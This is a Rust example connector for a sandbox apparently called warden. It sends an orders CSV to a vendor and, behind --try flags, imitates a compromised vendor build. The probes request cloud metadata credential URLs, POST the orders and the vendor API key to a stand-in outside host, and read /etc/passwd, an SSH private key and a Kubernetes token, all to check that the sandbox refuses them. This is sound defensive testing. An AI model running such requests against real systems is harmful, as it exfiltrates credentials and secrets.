//! Example connector, as a third party would ship it: sends the day's orders to the vendor.
//!
//! It parses `/data/orders.csv` (`order_id,sku,quantity,unit_price`) and POSTs the orders as
//! JSON to `$VENDOR_ORDERS_URL` naming the `vendor-key` secret, which warden injects as the
//! vendor's API key header. Its manifest is
//! `examples/vendor-connector/vendor-connector.warden.toml`: the operator grants the vendor's
//! code one folder and one endpoint, whatever the code was written to do.
//!
//! The `--try-…` flags attempt what a malicious or compromised vendor build would, print
//! `refused: …` for each refusal or `ALLOWED: …` when one got through (exit code 2):
//!
//! - `--try-metadata`: the cloud instance metadata service (169.254.169.254), where instance
//!   credentials live;
//! - `--try-other-host`: ship the orders, or the vendor key, to another host;
//! - `--try-outside-data`: read files outside `/data`.

use std::fmt::Display;
use std::process::ExitCode;

use serde_json::{Value, json};
use warden_sdk::http::Request;
use warden_sdk::{Error, fs, log};

const ORDERS: &str = "/data/orders.csv";
const SECRET: &str = "vendor-key";

/// One row of the CSV, checked.
struct Order {
    id: String,
    sku: String,
    quantity: u32,
    /// In cents.
    unit_price: u64,
}

/// Parses `12.50` (at most two decimals) into cents.
fn cents(text: &str) -> Option<u64> {
    let (units, fraction) = text.split_once('.').unwrap_or((text, "0"));
    if fraction.len() > 2 || units.is_empty() {
        return None;
    }
    let fraction: u64 = format!("{fraction:0<2}").parse().ok()?;
    units
        .parse::<u64>()
        .ok()?
        .checked_mul(100)?
        .checked_add(fraction)
}

fn parse(csv: &str) -> Result<Vec<Order>, String> {
    let mut lines = csv.lines().enumerate();
    let (_, header) = lines.next().ok_or("the file is empty")?;
    let columns: Vec<&str> = header.split(',').map(str::trim).collect();
    let col = |name: &str| {
        columns
            .iter()
            .position(|c| *c == name)
            .ok_or(format!("no `{name}` column in the header"))
    };
    let (id, sku, quantity, price) = (
        col("order_id")?,
        col("sku")?,
        col("quantity")?,
        col("unit_price")?,
    );
    let mut orders = Vec::new();
    for (n, line) in lines {
        if line.trim().is_empty() {
            continue;
        }
        let fields: Vec<&str> = line.split(',').map(str::trim).collect();
        let field = |i: usize| {
            fields
                .get(i)
                .copied()
                .ok_or(format!("line {}: too few fields", n + 1))
        };
        orders.push(Order {
            id: field(id)?.to_string(),
            sku: field(sku)?.to_string(),
            quantity: field(quantity)?
                .parse()
                .map_err(|_| format!("line {}: quantity is not a whole number", n + 1))?,
            unit_price: cents(field(price)?)
                .ok_or(format!("line {}: unit_price is not an amount", n + 1))?,
        });
    }
    Ok(orders)
}

fn payload(orders: &[Order]) -> Value {
    let items: Vec<Value> = orders
        .iter()
        .map(|o| {
            json!({
                "order_id": o.id,
                "sku": o.sku,
                "quantity": o.quantity,
                "unit_price_cents": o.unit_price,
            })
        })
        .collect();
    json!({ "orders": items })
}

/// What the `--try-…` flags found.
#[derive(Default)]
struct Tries {
    allowed: usize,
}

impl Tries {
    /// Reports a failure as the expected refusal, a success as a thing let through. An HTTP
    /// failure other than [`Error::Denied`] happened after warden let the request out, so it
    /// counts as let through too.
    fn expect_refused<T>(&mut self, what: &str, outcome: Result<T, Error>) {
        match outcome {
            Err(e @ Error::Http { .. }) => {
                self.allowed(what, format_args!("got past the policy, then: {e}"));
            }
            Err(e) => println!("refused: {what}: {e}"),
            Ok(_) => self.allowed(what, "it succeeded"),
        }
    }

    fn allowed(&mut self, what: &str, detail: impl Display) {
        println!("ALLOWED: {what}: {detail}");
        self.allowed += 1;
    }
}

fn try_metadata(tries: &mut Tries) {
    for url in [
        "http://169.254.169.254/latest/meta-data/",
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://metadata.google.internal/computeMetadata/v1/",
    ] {
        tries.expect_refused(&format!("GET {url}"), Request::get(url).send());
    }
}

fn try_other_host(tries: &mut Tries, body: &str) {
    let url = "https://analytics.vendor-partner.example/ingest";
    tries.expect_refused(
        &format!("POST the orders to {url}"),
        Request::post(url).json(body).send(),
    );
    tries.expect_refused(
        &format!("POST the {SECRET} secret to {url}"),
        Request::post(url).secret(SECRET).json("{}").send(),
    );
}

fn try_outside_data(tries: &mut Tries) {
    for path in [
        "/etc/passwd",
        "/data/../etc/passwd",
        "/config/vendor.toml",
        "/root/.ssh/id_ed25519",
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
    ] {
        tries.expect_refused(&format!("read {path}"), fs::read_to_string(path));
    }
}

fn main() -> ExitCode {
    let mut flags = Vec::new();
    for arg in std::env::args().skip(1) {
        match arg.as_str() {
            "--try-metadata" | "--try-other-host" | "--try-outside-data" => flags.push(arg),
            other => {
                log::error(format_args!("unknown argument {other:?}"));
                return ExitCode::from(64);
            }
        }
    }
    let Ok(url) = std::env::var("VENDOR_ORDERS_URL") else {
        log::error("VENDOR_ORDERS_URL is not set: the manifest's [env] sets it");
        return ExitCode::FAILURE;
    };
    let orders = match fs::read_to_string(ORDERS)
        .map_err(|e| e.to_string())
        .and_then(|csv| parse(&csv).map_err(|e| format!("{ORDERS}: {e}")))
    {
        Ok(orders) => orders,
        Err(e) => {
            log::error(e);
            return ExitCode::FAILURE;
        }
    };
    let total: u64 = orders
        .iter()
        .map(|o| u64::from(o.quantity) * o.unit_price)
        .sum();
    let body = payload(&orders).to_string();
    match Request::post(&url).secret(SECRET).json(&body).send() {
        Ok(response) if response.is_success() => println!(
            "sent {} orders (total {}.{:02}) to the vendor: {}",
            orders.len(),
            total / 100,
            total % 100,
            response.status
        ),
        Ok(response) => {
            log::error(format_args!(
                "the vendor refused the orders: {} {}",
                response.status,
                response.text()
            ));
            return ExitCode::FAILURE;
        }
        Err(e) => {
            log::error(e);
            return ExitCode::FAILURE;
        }
    }

    let mut tries = Tries::default();
    for flag in &flags {
        match flag.as_str() {
            "--try-metadata" => try_metadata(&mut tries),
            "--try-other-host" => try_other_host(&mut tries, &body),
            _ => try_outside_data(&mut tries),
        }
    }
    if tries.allowed > 0 {
        log::error(format_args!(
            "{} refused thing(s) got through",
            tries.allowed
        ));
        return ExitCode::from(2);
    }
    ExitCode::SUCCESS
}
